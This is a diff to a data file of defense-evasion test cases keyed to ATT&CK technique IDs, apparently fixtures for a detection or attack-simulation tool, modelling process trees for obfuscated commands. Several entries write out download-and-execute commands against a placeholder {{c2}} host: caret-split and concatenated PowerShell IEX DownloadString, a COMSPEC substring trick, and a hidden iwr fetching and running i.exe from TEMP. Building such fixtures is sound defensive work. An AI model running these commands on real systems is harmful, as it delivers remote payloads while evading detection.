@@ -187,12 +187,26 @@ export const defenseEvasion = [
     "Caret/quote-split cmd, string-concatenated PowerShell, and env-var substring tricks.",
     [
       v("cmd-carets", [
-        "cmd.exe /c p^o^w^e^r^s^h^e^l^l -nop -c \"i`e`x (n`ew-obj`ect N`et.WebC`lient).Down`loadString('http://{{c2}}/a')\"",
+        {
+          cmd: "cmd.exe /c p^o^w^e^r^s^h^e^l^l -nop -c \"i`e`x (n`ew-obj`ect N`et.WebC`lient).Down`loadString('http://{{c2}}/a')\"",
+          as: "c",
+        },
+        // cmd strips the carets before it starts PowerShell; the backticks are PowerShell's to remove.
+        {
+          cmd: "powershell  -nop -c \"i`e`x (n`ew-obj`ect N`et.WebC`lient).Down`loadString('http://{{c2}}/a')\"",
+          parent: "c",
+          net: [["{{c2}}", 80]],
+        },
       ]),
       v("ps-concat", [
         "powershell.exe -nop -c \"&('I'+'EX') (&('New-'+'Object') ('Net.'+'WebClient')).('Download'+'String').Invoke('http://{{c2}}/s')\"",
       ]),
-      v("env-substring", ["cmd.exe /c %COMSPEC:~-7,1%%COMSPEC:~4,1%%COMSPEC:~-12,1% /c whoami"]),
+      // %COMSPEC% is C:\\Windows\\system32\\cmd.exe: the three substrings spell "cmd".
+      v("env-substring", [
+        { cmd: "cmd.exe /c %COMSPEC:~-7,1%%COMSPEC:~-6,1%%COMSPEC:~-5,1% /c whoami", as: "c" },
+        { cmd: "cmd  /c whoami", parent: "c", as: "inner" },
+        { cmd: "whoami", parent: "inner" },
+      ]),
     ],
   ),
   t("T1027.011", "Fileless storage", "A payload stored in the registry and loaded by PowerShell.", [
@@ -219,7 +233,16 @@ export const defenseEvasion = [
         {
           cmd: 'C:\\Windows\\System32\\cmd.exe /c powershell -w hidden -c "iwr http://{{c2}}/i.ico -OutFile $env:TEMP\\i.exe; & $env:TEMP\\i.exe"',
           parent: "@explorer",
+          as: "c",
         },
+        {
+          cmd: 'powershell  -w hidden -c "iwr http://{{c2}}/i.ico -OutFile $env:TEMP\\i.exe; & $env:TEMP\\i.exe"',
+          parent: "c",
+          as: "ps",
+          net: [["{{c2}}", 80]],
+          files: ["{{tmp}}\\i.exe"],
+        },
+        { cmd: "{{tmp}}\\i.exe", parent: "ps" },
       ],
       { shell: "none" },
     ),
